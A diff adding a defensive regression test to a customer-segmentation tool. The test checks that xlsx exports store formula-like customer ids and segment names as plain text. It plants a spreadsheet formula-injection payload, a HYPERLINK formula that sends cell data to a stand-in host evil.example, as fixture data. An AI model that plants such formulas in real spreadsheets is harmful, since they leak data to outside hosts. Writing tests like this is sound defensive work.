@@ -1083,3 +1083,34 @@ def test_export_file_names_are_unique_per_segment() -> None:
     frame = pd.DataFrame({"segment_name": names, "customer_id": list("abcde")})
     slugs = [s for s, _ in _unique_slugs(names, frame)]
     assert slugs == ["at_risk", "at_risk_2", "лояльные", "спящие", "segment"]
+
+
+def test_export_xlsx_writes_text_as_text(cli, shop_run: Path, tmp_path: Path) -> None:
+    """A customer id or segment name that looks like a formula or a link is a text cell
+    in an Excel export: xlsxwriter's defaults made ``=HYPERLINK(...)`` from the source
+    data a live formula in a campaign list (it sends the sheet's data wherever it links)."""
+    import shutil
+    import zipfile
+
+    run = tmp_path / "run"
+    shutil.copytree(shop_run, run)
+    customers = pd.read_parquet(run / "customers.parquet")
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
+    customers.loc[0, "customer_id"] = evil
+    customers.loc[1, "customer_id"] = "https://evil.example/x"
+    customers.loc[customers["segment_id"] == customers.loc[0, "segment_id"], "segment_name"] = (
+        "=1+1"
+    )
+    customers.to_parquet(run / "customers.parquet")
+    r = cli("export", run, "--format", "xlsx", "--single-file", "--out", tmp_path / "x")
+    assert r.code == 0, r.err
+    book = tmp_path / "x" / "campaign.xlsx"
+    with zipfile.ZipFile(book) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in sheet  # no formula cells
+        assert not [
+            n for n in z.namelist() if "hyperlink" in n.lower() or "rels" in n and "sheet" in n
+        ]
+    back = pd.read_excel(book, dtype={"customer_id": str}, engine="calamine")
+    assert {evil, "https://evil.example/x"} <= set(back["customer_id"])
+    assert "=1+1" in set(back["segment_name"])
